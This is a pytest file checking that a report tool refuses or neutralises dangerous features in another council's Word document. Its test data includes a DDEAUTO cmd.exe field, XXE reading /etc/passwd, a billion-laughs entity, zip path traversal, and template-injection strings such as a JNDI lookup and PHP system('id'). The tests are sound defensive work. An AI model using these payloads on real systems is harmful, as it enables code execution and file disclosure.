"""What is refused of another council's document, what is left where it is, and that nothing of it is run or kept."""

import zipfile
from dataclasses import asdict
from pathlib import Path

import pytest

from resources.problem import Problem
from resources.report import base_parts
from resources.report.base_document import looks_of
from resources.report.base_parts import open_base
from resources.report.blocks import Heading, Paragraph, Report
from resources.report.document_text import parts_of
from resources.report.word import save_word
from tests.resources.report.base_documents import TYPES, W, base, body, field, relations, said, style, styles

RELS = "word/_rels/document.xml.rels"
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
XXE = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REFUSED: dict[str, tuple[dict[str, str | bytes], str]] = {
    "macros": ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "holds macros"),
    "macros by their kind": (
        {"[Content_Types].xml": TYPES.replace("document.main", "document.macroEnabled.main")}, "with macros"),
    "macros by relation": ({RELS: relations("vbaProject", "vbaProject.bin", outside=False)}, "which can run"),
    "a script inside": ({"word/run.vbs": "MsgBox 1"}, "holds macros"),
    "ActiveX": ({"word/activeX/activeX1.xml": f"<w:ocx {W}/>"}, "ActiveX or OLE"),
    "an OLE object": ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, "ActiveX or OLE"),
    "another document brought in": ({RELS: relations("aFChunk", "part.html", outside=False)}, "which can run"),
    "DDEAUTO": ({"word/document.xml": body(field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'))}, "DDE"),
    "DDE": ({"word/document.xml": body(field("DDE excel sheet r1c1"))}, "DDE"),
    "DDE in pieces": (
        {"word/document.xml": body(field("DD</w:instrText></w:r><w:r><w:instrText>EAUTO calc").replace(" DD", "DD"))},
        "DDE"),
    "DDE in a header": ({"word/header1.xml": f"<w:hdr {W}>{field('DDEAUTO cmd')}</w:hdr>"}, "DDE"),
    "entities that grow": ({"word/styles.xml": f"{LAUGHS}<w:styles {W}>&b;</w:styles>"}, "XML entities"),
    "entities that read files": ({"word/document.xml": f"{XXE}<w:document {W}>&x;</w:document>"}, "XML entities"),
    "another encoding": (
        {"word/styles.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:styles {W}/>'.encode("utf-16")},
        "Word never writes"),
    "an encoding that hides": (
        {"word/styles.xml": f'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE<w:styles {W}/>'},
        "Word never writes"),
    "a bomb": ({"word/media/nothing.xml": b" " * 30_000_000}, "unpack to far more"),
    "a way out": ({"../../evil.xml": "<a/>"}, "a place outside"),
    "a way out on Windows": ({"word\\..\\evil.xml": "<a/>"}, "a place outside"),
    "no part of a document": ({"[Content_Types].xml": "<broken"}, "is not a Word document"),
}  # fmt: skip
LEFT: dict[str, tuple[dict[str, str | bytes], str]] = {
    "a template elsewhere": (
        {"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://example.org/evil.dotm")},
        "template that it is attached to was not opened"),
    "a picture elsewhere": ({RELS: relations("image", "http://example.org/track.png")}, "was not fetched"),
    "a file elsewhere": ({RELS: relations("image", "file://server/share/x.png")}, "was not fetched"),
    "INCLUDETEXT": ({"word/document.xml": body(field(r'INCLUDETEXT "c:\\secret.txt"'))}, "nothing was fetched"),
    "INCLUDEPICTURE": ({"word/document.xml": body(field("INCLUDEPICTURE x.png"))}, "nothing was fetched"),
    "MACROBUTTON": ({"word/document.xml": body(field("MACROBUTTON Evil Click"))}, "nothing was fetched"),
    "MERGEFIELD": ({"word/document.xml": body(field("MERGEFIELD Surname"))}, "mail merge"),
    "a workbook inside": ({"word/embeddings/Sheet1.xlsx": b"PK"}, "Workbooks inside"),
}  # fmt: skip
CODE = (
    "{{7*7}}", "{% for x in ().__class__.__bases__ %}", "${7*7}", "&lt;%= 7*7 %>", "#{7*7}", "[% 7*7 %]", "@(7*7)",
    "{{config.items()}}", "${jndi:ldap://example.org/a}", "&lt;?php system('id') ?>", "{{''.__class__.__mro__[1]}}",
)  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_what_can_do_harm_is_refused_in_a_sentence(tmp_path: Path, case: str) -> None:
    changed, words = REFUSED[case]
    with pytest.raises(Problem, match=words) as refused:
        open_base(base(tmp_path / "theirs.docx", changed))
    assert "“theirs.docx”" in refused.value.sentence
    assert "evil" not in refused.value.sentence


@pytest.mark.parametrize("case", LEFT)
def test_what_would_fetch_is_left_where_it_is(tmp_path: Path, case: str) -> None:
    changed, words = LEFT[case]
    taken = looks_of(base(tmp_path / "theirs.docx", changed))
    assert words in " ".join(taken.left)
    assert taken.looks.font == "Calibri"


@pytest.mark.parametrize("place", range(len(CODE)))
def test_code_of_templates_is_letters_and_none_of_it_comes_over(tmp_path: Path, place: int) -> None:
    code = CODE[place]
    changed: dict[str, str | bytes] = {
        "word/document.xml": body(said(code)),
        "word/styles.xml": styles(style("Normal", f'<w:rFonts w:ascii="{code}"/><w:sz w:val="{code}"/>')),
        "docProps/custom.xml": f"<p>{code}</p>",
    }
    taken = looks_of(base(tmp_path / "theirs.docx", changed))
    assert "read as plain letters" in " ".join(taken.left)
    assert (taken.looks.font, taken.looks.body) == ("Arial", 12)
    report = Report(
        "Ours", blocks=(Heading("Purpose"), Paragraph("Larkmeadow Lodge is rated Good.")), looks=taken.looks
    )
    save_word(report, tmp_path / "ours.docx", exempt_terms=())
    inside = b"".join(parts_of((tmp_path / "ours.docx").read_bytes()).values()).decode()
    plain = code.replace("&lt;", "<")
    assert not any(told in inside for told in (code, plain, "7*7", "49", "Larkshire"))
    assert not any(plain in str(value) for value in asdict(taken.looks).values())


@pytest.mark.parametrize("ending", [".docm", ".dotm", ".doc"])
def test_a_document_of_another_kind_is_refused_by_its_name(tmp_path: Path, ending: str) -> None:
    path = base(tmp_path / "theirs.docx").rename(tmp_path / f"theirs{ending}")
    with pytest.raises(Problem, match="it may hold macros"):
        open_base(path)


def test_what_is_no_word_file_is_told(tmp_path: Path) -> None:
    (tmp_path / "notes.docx").write_text("These are notes.")
    with pytest.raises(Problem, match="not a Word document that can be read"):
        open_base(tmp_path / "notes.docx")
    with zipfile.ZipFile(tmp_path / "book.docx", "w") as archive:
        archive.writestr("xl/workbook.xml", "<a/>")
    with pytest.raises(Problem, match="is not a Word document"):
        open_base(tmp_path / "book.docx")
    with pytest.raises(Problem, match="not there any more"):
        open_base(tmp_path / "gone.docx")


def test_a_document_too_large_or_with_too_many_parts_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = base(tmp_path / "theirs.docx")
    monkeypatch.setattr(base_parts, "MOST_PARTS", 3)
    with pytest.raises(Problem, match="parts that no Word document has"):
        open_base(path)
    monkeypatch.setattr(base_parts, "MOST_BYTES", 10)
    with pytest.raises(Problem, match="MB are read for looks"):
        open_base(path)


def test_a_part_that_is_longer_than_any_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = base(tmp_path / "theirs.docx")
    monkeypatch.setattr(base_parts, "MOST_OF_A_PART", 100)
    with pytest.raises(Problem, match="unpack to far more"):
        open_base(path)


def test_every_part_with_looks_in_it_is_read(tmp_path: Path) -> None:
    parts = open_base(base(tmp_path / "theirs.docx"))
    assert sorted(parts.xml) == ["word/document.xml", "word/styles.xml", "word/theme/theme1.xml"]
    assert parts.get("word/numbering.xml") is None
    assert parts.left == ()
